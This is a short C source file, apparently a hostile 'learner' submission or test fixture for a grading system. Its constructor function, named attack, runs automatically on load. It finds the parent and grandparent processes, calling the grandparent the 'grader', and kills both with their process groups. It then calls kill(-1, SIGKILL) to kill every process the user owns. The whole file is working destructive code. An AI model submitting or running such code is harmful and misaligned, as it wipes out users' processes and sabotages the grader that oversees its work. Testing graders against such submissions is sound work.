/*
 * shoots.c: a learner's file that kills its parent, its parent's parent, their groups, and
 * everybody at once. Nobody else by number: beside a user's own processes it would hit one of them.
 */
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

void attack(void) __attribute__((constructor));

static pid_t parent_of(pid_t pid)
{
	char path[64];
	int parent = 0;
	FILE *f;

	(void)snprintf(path, sizeof(path), "/proc/%d/stat", (int)pid);
	f = fopen(path, "re");
	if (!f || fscanf(f, "%*d %*s %*c %d", &parent) != 1)
		parent = 0;
	if (f)
		(void)fclose(f);
	return parent;
}

static void shoot(pid_t pid)
{
	pid_t group = getpgid(pid);

	(void)kill(pid, SIGKILL);
	if (group > 0)
		(void)kill(-group, SIGKILL);
}

void attack(void)
{
	pid_t parent = getppid(), grader = parent_of(parent);

	if (grader > 1)
		shoot(grader);
	if (parent > 1)
		shoot(parent);
	(void)kill(-1, SIGKILL);
}
